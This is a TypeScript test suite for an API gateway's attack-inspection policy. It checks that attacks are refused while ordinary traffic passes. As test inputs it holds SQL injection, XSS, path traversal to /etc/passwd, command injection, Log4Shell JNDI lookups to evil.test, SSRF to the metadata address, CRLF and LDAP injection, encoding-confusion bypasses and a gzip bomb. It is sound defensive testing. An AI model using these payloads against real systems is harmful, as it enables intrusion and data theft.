// Through a real gateway: attacks in every placement are refused before the upstream sees them,
// ordinary traffic passes untouched, exclusions and report mode behave.
import assert from 'node:assert/strict';
import { request } from 'node:http';
import { after, before, describe, test } from 'node:test';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import pino from 'pino';
import { startGateway, type RunningGateway } from '../../server/gateway.ts';
import { passthroughYaml, startTestGateway, type TestGateway } from '../../../test/helpers/gateway.ts';
import { startUpstream, type TestUpstream } from '../../../test/helpers/upstream.ts';

describe('inspect policy', () => {
  let upstream: TestUpstream;
  let gw: TestGateway;
  let reportGw: TestGateway;
  let allowGw: TestGateway;

  before(async () => {
    upstream = await startUpstream();
    const policies = (extra: string) => `policies:\n  inspect:\n${extra}    exclusions:\n      - { name: sql, location: query, allow: [sqli] }\n`;
    gw = await startTestGateway(passthroughYaml(upstream.url).replace('apis:', `${policies('')}apis:`));
    reportGw = await startTestGateway(passthroughYaml(upstream.url).replace('apis:', `${policies('    mode: report\n')}apis:`));
    allowGw = await startTestGateway(passthroughYaml(upstream.url).replace('apis:', `${policies('    onTruncated: allow\n')}apis:`));
  });
  after(async () => {
    await gw.close();
    await reportGw.close();
    await allowGw.close();
    await upstream.close();
  });

  const attacks: [string, string, RequestInit?][] = [
    ['sqli in query', `/search?q=${encodeURIComponent("1' OR '1'='1' --")}`],
    ['xss in query', `/search?q=${encodeURIComponent('<script>alert(document.cookie)</script>')}`],
    ['path traversal', `/files?name=${encodeURIComponent('../../../../etc/passwd')}`],
    ['command injection in JSON', '/run', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ host: '8.8.8.8; cat /etc/passwd' }) }],
    ['log4shell in a header', '/x', { headers: { 'user-agent': '${jndi:ldap://evil.test/a}' } }],
    ['nosql operator key', '/login', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"user":"admin","password":{"$ne":null}}' }],
    ['ssrf to metadata', `/fetch?url=${encodeURIComponent('http://169.254.169.254/latest/meta-data/')}`],
    // JSON that JSON.parse does not read as the upstream does: Express drops a BOM and decodes UTF-16,
    // Python detects UTF-16 from the bytes and takes NaN; some parsers keep a repeated key's first copy.
    ['sqli in JSON after a byte-order mark', '/a', { method: 'POST', headers: { 'content-type': 'application/json' }, body: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`{"q":"admin'--"}`)]) }],
    ['sqli in UTF-16 JSON', '/a', { method: 'POST', headers: { 'content-type': 'application/json; charset=utf-16le' }, body: Buffer.from(`{"q":"admin'--"}`, 'utf16le') }],
    ['sqli in unlabelled UTF-16 JSON', '/a', { method: 'POST', headers: { 'content-type': 'application/json' }, body: Buffer.from(`{"q":"1 union select password from users--"}`, 'utf16le') }],
    ['sqli in JSON with NaN', '/a', { method: 'POST', headers: { 'content-type': 'application/json' }, body: `{"n":NaN,"q":"admin'--"}` }],
    ['sqli in the first copy of a repeated JSON key', '/a', { method: 'POST', headers: { 'content-type': 'application/json' }, body: `{"q":"admin'--","q":"x"}` }],
    ['sqli in a repeated key deeper than the walk goes', '/a', { method: 'POST', headers: { 'content-type': 'application/json' }, body: `${'{"a":'.repeat(40)}{"q":"1 union select password from users--","q":"x"}${'}'.repeat(40)}` }],
    ['sqli in the first copy of a repeated nested JSON key', '/a', { method: 'POST', headers: { 'content-type': 'application/json' }, body: `{"u":{"q":"1 union select password from users--","q":"x"},"n":1}` }],
  ];

  for (const [name, path, init] of attacks) {
    test(`refuses ${name} before it reaches the upstream`, async () => {
      const before = upstream.received.length;
      const res = await fetch(`${gw.url}${path}`, init);
      assert.equal(res.status, 403);
      const body = (await res.json()) as { code: string };
      assert.equal(body.code, 'PCL_ERR_ATTACK_DETECTED');
      assert.ok(!JSON.stringify(body).includes('passwd') && !JSON.stringify(body).includes('script'));
      assert.equal(upstream.received.length, before);
    });
  }

  // Express decodes any utf-* charset its decoder knows: `+ACc-` is a quote in UTF-7.
  test('a JSON body labelled with a charset other than UTF-8 or UTF-16 is refused (415) before any policy', async () => {
    const before = upstream.received.length;
    for (const type of ['application/json; charset=utf-7', 'application/json; charset=IBM037', 'application/json; charset=utf-8; charset=utf-7']) {
      const res = await fetch(`${gw.url}/a`, { method: 'POST', headers: { 'content-type': type }, body: '{"q":"admin+ACc- or +ACc-1+ACc-=+ACc-1"}' });
      assert.equal(res.status, 415, type);
      assert.equal(((await res.json()) as { code: string }).code, 'PCL_ERR_UNSUPPORTED_MEDIA_TYPE');
    }
    // A UTF-8 body labelled UTF-16: Express and Python would read different texts.
    const mislabelled = await fetch(`${gw.url}/a`, { method: 'POST', headers: { 'content-type': 'application/json; charset=utf-16' }, body: '{"q":"x"}' });
    assert.equal(mislabelled.status, 415);
    assert.equal(upstream.received.length, before);
    assert.equal((await fetch(`${gw.url}/a`, { method: 'POST', headers: { 'content-type': 'application/json; charset=UTF-8' }, body: '{"q":"x"}' })).status, 200);
  });

  test('ordinary traffic passes, bodies byte for byte', async () => {
    for (const q of ["O'Brien", 'select a size: small or large', 'tom & jerry <3', 'café ☕', 'user@example.com']) {
      assert.equal((await fetch(`${gw.url}/search?q=${encodeURIComponent(q)}`)).status, 200, q);
    }
    const body = JSON.stringify({ note: 'Use SELECT sparingly; see https://example.com/docs?a=1&b=2', tags: ['a', 'b'], n: 3 });
    const res = await fetch(`${gw.url}/notes`, { method: 'POST', headers: { 'content-type': 'application/json' }, body });
    assert.equal(res.status, 200);
    assert.equal(upstream.received.at(-1)!.body.toString(), body);
  });

  test('markdown with inline code passes', async () => {
    const body = JSON.stringify({ note: 'Use `SELECT` sparingly, or run `npm test`.' });
    const res = await fetch(`${gw.url}/notes`, { method: 'POST', headers: { 'content-type': 'application/json' }, body });
    assert.equal(res.status, 200);
  });

  test('an exclusion lets a field hold what would otherwise be refused', async () => {
    const sql = encodeURIComponent("SELECT name FROM users WHERE id = '1' OR '1'='1'");
    assert.equal((await fetch(`${gw.url}/admin/query?sql=${sql}`)).status, 200);
    assert.equal((await fetch(`${gw.url}/admin/query?other=${sql}`)).status, 403);
  });

  const attack = "' OR 1=1-- <script>alert(1)</script>";
  const long = 'A'.repeat(131073) + attack;
  const post = (url: string, contentType: string, body: string) => fetch(url, { method: 'POST', headers: { 'content-type': contentType }, body });

  test('a request not inspected whole is refused (413), not passed half-inspected', async () => {
    const pairs = Array.from({ length: 1000 }, (_, i) => `p${i}=v`).join('&');
    const cases: [string, string, string][] = [
      ['JSON value over 128 KiB', 'application/json', JSON.stringify({ q: long })],
      ['form value over 128 KiB', 'application/x-www-form-urlencoded', `q=${encodeURIComponent(long)}`],
      ['text body over 128 KiB', 'text/plain', long],
      ['form pair past the 1,000th', 'application/x-www-form-urlencoded', `${pairs}&q=${encodeURIComponent(attack)}`],
      ['JSON item past the 10,000th', 'application/json', JSON.stringify([...Array(10000).fill(1), attack])],
      ['XML node past the 4,000th', 'application/xml', `<r>${'<a>v</a>'.repeat(2000)}<q>${attack}</q></r>`],
    ];
    for (const [name, ct, body] of cases) {
      const before = upstream.received.length;
      const res = await post(`${gw.url}/up`, ct, body);
      assert.equal(res.status, 413, name);
      assert.equal(((await res.json()) as { code: string }).code, 'PCL_ERR_UNINSPECTABLE', name);
      assert.equal(upstream.received.length, before, name);
    }
    // Large but under every limit: passes.
    const ok = await post(`${gw.url}/up`, 'application/json', JSON.stringify({ note: 'n'.repeat(131072), list: Array(9000).fill(1) }));
    assert.equal(ok.status, 200);
    assert.equal((await post(`${gw.url}/up`, 'application/x-www-form-urlencoded', pairs)).status, 200);
  });

  test('onTruncated: allow lets a request not inspected whole through', async () => {
    const res = await post(`${allowGw.url}/up`, 'text/plain', long);
    assert.equal(res.status, 200);
    // What is inspected still counts.
    assert.equal((await post(`${allowGw.url}/up`, 'text/plain', attack)).status, 403);
  });

  test('multipart: a fake part inside a field value, and a JSON file part, are inspected', async () => {
    const fake = `--XyZ\r\nContent-Disposition: form-data; name="q"\r\n\r\nhi --XyZ\r\nContent-Disposition: form-data; name="f"; filename="x.png"\r\nContent-Type: image/png\r\n\r\n${attack}\r\n--XyZ--\r\n`;
    const json = `--XyZ\r\nContent-Disposition: form-data; name="d"; filename="d.json"\r\nContent-Type: application/json\r\n\r\n{"q":"1' OR 1=1--"}\r\n--XyZ--\r\n`;
    for (const body of [fake, json]) assert.equal((await post(`${gw.url}/up`, 'multipart/form-data; boundary=XyZ', body)).status, 403, body);
    const fine = `--XyZ\r\nContent-Disposition: form-data; name="q"\r\n\r\nhello\r\n--XyZ\r\nContent-Disposition: form-data; name="d"; filename="d.json"\r\nContent-Type: application/json\r\n\r\n{"q":"fine"}\r\n--XyZ--\r\n`;
    assert.equal((await post(`${gw.url}/up`, 'multipart/form-data; boundary=XyZ', fine)).status, 200);
  });

  test('XML text split by CDATA or a comment is inspected joined', async () => {
    for (const body of ["<r><q>1' OR <![CDATA[1=1--]]></q></r>", '<r><q>${jn<!---->di:ldap://x/a}</q></r>']) {
      assert.equal((await post(`${gw.url}/up`, 'application/xml', body)).status, 403, body);
    }
  });

  test('report mode lets the attack through', async () => {
    const res = await fetch(`${reportGw.url}/search?q=${encodeURIComponent("1' OR '1'='1' --")}`);
    assert.equal(res.status, 200);
  });

  // Express's body parsers inflate gzip and deflate before parsing: the attack is in the decoded body.
  describe('compressed bodies', () => {
    const json = JSON.stringify({ host: '8.8.8.8; cat /etc/passwd', user: '${jndi:ldap://evil.test/a}' });
    const form = `file=${encodeURIComponent('../../../../etc/passwd')}`;
    const codings: [string, string, (b: Buffer) => Buffer][] = [
      ['gzip', 'gzip', gzipSync], ['x-gzip', 'gzip', gzipSync], ['deflate', 'zlib', deflateSync], ['deflate', 'raw deflate', deflateRawSync],
      ['br', 'brotli', brotliCompressSync], ['GZip', 'gzip', gzipSync],
    ];
    const post = (body: Buffer, encoding: string, type = 'application/json') =>
      fetch(`${gw.url}/api`, { method: 'POST', headers: { 'content-type': type, 'content-encoding': encoding }, body });

    for (const [coding, format, compress] of codings) {
      test(`an attack in a body with Content-Encoding ${coding} (${format}) is refused`, async () => {
        const before = upstream.received.length;
        const res1 = await post(compress(Buffer.from(json)), coding);
        assert.equal(res1.status, 403);
        assert.equal(((await res1.json()) as { code: string }).code, 'PCL_ERR_ATTACK_DETECTED');
        const res2 = await post(compress(Buffer.from(form)), coding, 'application/x-www-form-urlencoded');
        assert.equal(res2.status, 403);
        await res2.body?.cancel();
        assert.equal(upstream.received.length, before);
      });
    }

    test('a clean compressed body is forwarded byte for byte, still compressed', async () => {
      const body = gzipSync(Buffer.from(JSON.stringify({ note: 'hello', n: 3 })));
      const res = await post(body, 'gzip');
      assert.equal(res.status, 200);
      const got = upstream.received.at(-1)!;
      assert.deepEqual(got.body, body);
      assert.equal(got.headers['content-encoding'], 'gzip');
      assert.equal((await post(Buffer.from('{"a":1}'), 'identity')).status, 200);
    });

    test('a decompression bomb is refused (413), not decoded without bound', async () => {
      const before = upstream.received.length;
      const bomb = gzipSync(Buffer.alloc(64 << 20, 0x20)); // 64 MiB of spaces in ~64 KiB
      const res = await post(bomb, 'gzip');
      assert.equal(res.status, 413);
      assert.match(res.headers.get('content-type') ?? '', /problem\+json/);
      assert.equal(((await res.json()) as { code: string }).code, 'PCL_ERR_BODY_TOO_LARGE');
      assert.equal(upstream.received.length, before);
    });

    test('unknown or stacked codings are refused (415), corrupt data too (400)', async () => {
      const before = upstream.received.length;
      for (const [encoding, body] of [['compress', Buffer.from(json)], ['gzip, gzip', gzipSync(gzipSync(Buffer.from(json)))], ['zstd', Buffer.from(json)], ['gzip, identity', gzipSync(Buffer.from(json))]] as const) {
        const res = await post(body, encoding);
        assert.equal(res.status, 415, encoding);
        assert.equal(((await res.json()) as { code: string }).code, 'PCL_ERR_UNSUPPORTED_MEDIA_TYPE');
      }
      for (const encoding of ['gzip', 'deflate', 'br']) {
        const res = await post(Buffer.from(json), encoding);
        assert.equal(res.status, 400, encoding);
        assert.equal(((await res.json()) as { code: string }).code, 'PCL_ERR_BAD_REQUEST');
      }
      assert.equal(upstream.received.length, before);
    });
  });

  describe('headers outside the fully inspected set', () => {
    const basic = (s: string) => `Basic ${Buffer.from(s).toString('base64')}`;
    const attacks: Record<string, string>[] = [
      { 'x-correlation-id': '${jndi:ldap://evil.test/a}' },
      { traceparent: '${jndi:ldap://evil.test/a}' },
      { 'cache-control': '${jndi:ldap://evil.test/a}' },
      { 'if-none-match': '${jndi:ldap://evil.test/a}' },
      { 'sec-ch-ua': '${jndi:ldap://evil.test/a}' },
      { 'accept-language': '../../../../etc/passwd' },
      { 'x-request-id': '%0d%0aSet-Cookie: session=attacker' },
      { authorization: basic("admin' OR 1=1--:x") },
      { authorization: basic('*)(uid=*))(|(uid=*:secret') },
      { authorization: 'Bearer ${jndi:ldap://evil.test/a}' },
    ];
    for (const headers of attacks) {
      const [name, value] = Object.entries(headers)[0]!;
      test(`refuses ${name}: ${value}`, async () => {
        const before = upstream.received.length;
        const res = await fetch(`${gw.url}/x`, { headers });
        assert.equal(res.status, 403);
        const text = await res.text();
        assert.ok(!text.includes('admin') && !text.includes('jndi'));
        assert.equal(upstream.received.length, before);
      });
    }

    test('refuses a lookup in Host (it is no host name: refused before inspection)', async () => {
      const before = upstream.received.length;
      const status = await new Promise<number>((resolve, reject) => {
        const u = new URL(gw.url);
        request({ host: u.hostname, port: u.port, path: '/x', headers: { host: '${jndi:ldap://evil.test/a}' } }, (res) => {
          res.resume();
          resolve(res.statusCode ?? 0);
        }).on('error', reject).end();
      });
      assert.equal(status, 400);
      assert.equal(upstream.received.length, before);
    });

    test('ordinary browser and API headers pass', async () => {
      const headers = {
        accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
        'accept-language': 'en-GB,en;q=0.9,fr-FR;q=0.8',
        'accept-encoding': 'gzip, deflate, br, zstd',
        'cache-control': 'no-cache, max-age=0, must-revalidate',
        'if-none-match': 'W/"5e-1b2c3d4e5f", "abc/def+=="',
        'if-modified-since': 'Wed, 21 Oct 2015 07:28:00 GMT',
        traceparent: '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
        tracestate: 'congo=t61rcWkgMzE,rojo=00f067aa0ba902b7',
        'x-correlation-id': 'b3c1a7e2-9f4d-4c1e-8a2b-1f2e3d4c5b6a',
        'sec-ch-ua': '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
        'sec-ch-ua-platform': '"Windows"',
        'sec-fetch-dest': 'document',
        'x-amzn-trace-id': 'Root=1-67891233-abcdef012345678912345678;Parent=53995c3f42cd8ad8;Sampled=1',
        authorization: 'Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.c2lnbmF0dXJlLi4vLi4vZXRj-_x',
      };
      assert.equal((await fetch(`${gw.url}/x`, { headers })).status, 200);
      for (const user of ['alice', "o'brien@example.com", 'DOMAIN\\bob']) {
        const res = await fetch(`${gw.url}/x`, { headers: { authorization: basic(`${user}:p@ss' OR 1=1--/../..`) } });
        assert.equal(res.status, 200, user);
      }
    });
  });

  test('a body labelled multipart that parsers may read differently is refused (400), also with onTruncated: allow', async () => {
    const before = upstream.received.length;
    const cases: [string, string][] = [
      ['multipart/form-data; boundary=x', JSON.stringify({ host: '8.8.8.8' })], // no part: some upstream reads it as JSON
      ['multipart/form-data; boundary=x', 'host=8.8.8.8'],
      ['multipart/form-data', '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nv\r\n--x--\r\n'],
      ['multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nv\r\n--x--\r\n--x\r\nContent-Disposition: form-data; name="b"\r\n\r\nw\r\n--x--\r\n'],
    ];
    for (const target of [gw, allowGw]) {
      for (const [type, body] of cases) {
        const res = await post(`${target.url}/run`, type, body);
        assert.equal(res.status, 400, body);
        const problem = (await res.json()) as { code: string; detail: string };
        assert.equal(problem.code, 'PCL_ERR_BAD_REQUEST');
        assert.match(problem.detail, /^The multipart body is refused: it (has|is) /);
        assert.ok(!problem.detail.includes('8.8.8.8'));
      }
    }
    assert.equal(upstream.received.length, before);
    assert.equal((await post(`${gw.url}/run`, 'multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nv\r\n--x--\r\n')).status, 200);
  });
});

// The engine fails on some inputs (a JSON body nested 300,000 levels deep, 600 KB, under the body
// limit): the request cannot be inspected. Refused in enforce mode, but as what it is (413
// PCL_ERR_UNINSPECTABLE, logged and audited as not inspected), never as an attack with score 0;
// reported and let through in report mode, like any other decision of the policy.
describe('inspect policy: a request the detection engine fails on', () => {
  const TOKEN = 'inspect-test-admin-token-0123456789';
  const deep = `{"a":${'['.repeat(300_000)}${']'.repeat(300_000)}}`;
  let upstream: TestUpstream;
  const started: { gateway: RunningGateway; dir: string }[] = [];

  before(async () => {
    upstream = await startUpstream();
  });
  after(async () => {
    for (const { gateway, dir } of started) {
      await gateway.shutdown();
      await rm(dir, { recursive: true, force: true });
    }
    await upstream.close();
  });

  /** A gateway with an audit trail and the admin API, its warnings collected. */
  async function gatewayWith(inspect: string) {
    const dir = await mkdtemp(join(tmpdir(), 'portcullis-inspect-'));
    const configPath = join(dir, 'portcullis.yaml');
    await writeFile(configPath, `listeners: [{ port: 0, host: 127.0.0.1 }]
admin: { host: 127.0.0.1, port: 0, token: ${TOKEN} }
log: { access: false }
audit: { enabled: true, store: ./audit.db, flushInterval: 20ms }
upstreams: { backend: { url: ${upstream.url} } }
policies:
  inspect: ${inspect}
apis:
  - name: api
    upstream: backend
    routes: [{ path: /*, operationId: all }]
`);
    const logs: { msg: string; reqId?: string }[] = [];
    const logger = pino({ level: 'warn' }, { write: (line: string) => void logs.push(JSON.parse(line)) });
    const gateway = await startGateway({ configPath, logger, env: process.env });
    started.push({ gateway, dir });
    const event = async (requestId: string) => {
      for (let i = 0; i < 100; i++) {
        const res = await fetch(`${gateway.adminUrl}/api/events?limit=20`, { headers: { authorization: `Bearer ${TOKEN}` } });
        const found = ((await res.json()) as { events: any[] }).events.find((e) => e.requestId === requestId);
        if (found) return found;
        await new Promise((r) => setTimeout(r, 30));
      }
      assert.fail(`no audit event for ${requestId}`);
    };
    return { url: gateway.urls[0]!.url, logs, event };
  }
  const post = (url: string) => fetch(`${url}/deep`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: deep });

  test('enforce: refused as not inspectable (413), logged and audited as such, not as an attack', async () => {
    const gw = await gatewayWith('{}');
    const before = upstream.received.length;
    const res = await post(gw.url);
    assert.equal(res.status, 413);
    const body = (await res.json()) as { code: string; requestId: string };
    assert.equal(body.code, 'PCL_ERR_UNINSPECTABLE');
    assert.equal(upstream.received.length, before);
    const mine = gw.logs.filter((l) => l.reqId === body.requestId);
    assert.deepEqual(mine.map((l) => l.msg), ['request not inspected: the detection engine failed on it']);
    const event = await gw.event(body.requestId);
    assert.equal(event.verdict, 'deny');
    assert.equal(event.policy, 'inspect');
    assert.equal(event.reason, 'PCL_ERR_UNINSPECTABLE');
    assert.deepEqual(event.decisions, [{ policy: 'inspect', verdict: 'deny', code: 'PCL_ERR_UNINSPECTABLE' }]);
    assert.equal(event.evidence.reason, 'engine_error');
    // A request over the inspection limits is told apart in the trail.
    const long = await fetch(`${gw.url}/long`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ q: 'A'.repeat(131073) }) });
    const longBody = (await long.json()) as { code: string; requestId: string };
    assert.equal(longBody.code, 'PCL_ERR_UNINSPECTABLE');
    assert.equal((await gw.event(longBody.requestId)).evidence.reason, 'over_limits');
    // An ordinary request still passes, an attack is still one.
    assert.equal((await fetch(`${gw.url}/x?q=hello`)).status, 200);
    assert.equal((await fetch(`${gw.url}/x?q=${encodeURIComponent("1' OR '1'='1' --")}`)).status, 403);
  });

  test('onTruncated: allow does not let it through: nothing of it was inspected', async () => {
    const gw = await gatewayWith('{ onTruncated: allow }');
    const res = await post(gw.url);
    assert.equal(res.status, 413);
    assert.equal(((await res.json()) as { code: string }).code, 'PCL_ERR_UNINSPECTABLE');
  });

  test('report: let through, the engine failure recorded as a report', async () => {
    const gw = await gatewayWith('{ mode: report }');
    const before = upstream.received.length;
    const res = await post(gw.url);
    assert.equal(res.status, 200);
    await res.arrayBuffer();
    assert.equal(upstream.received.length, before + 1);
    const requestId = res.headers.get('x-request-id')!;
    assert.deepEqual(gw.logs.filter((l) => l.reqId === requestId).map((l) => l.msg), ['request not inspected: the detection engine failed on it']);
    const event = await gw.event(requestId);
    assert.equal(event.verdict, 'report');
    assert.equal(event.reason, 'PCL_ERR_UNINSPECTABLE');
    assert.deepEqual(event.decisions, [{ policy: 'inspect', verdict: 'report', code: 'PCL_ERR_UNINSPECTABLE' }]);
    assert.equal(event.evidence.reason, 'engine_error');
  });
});
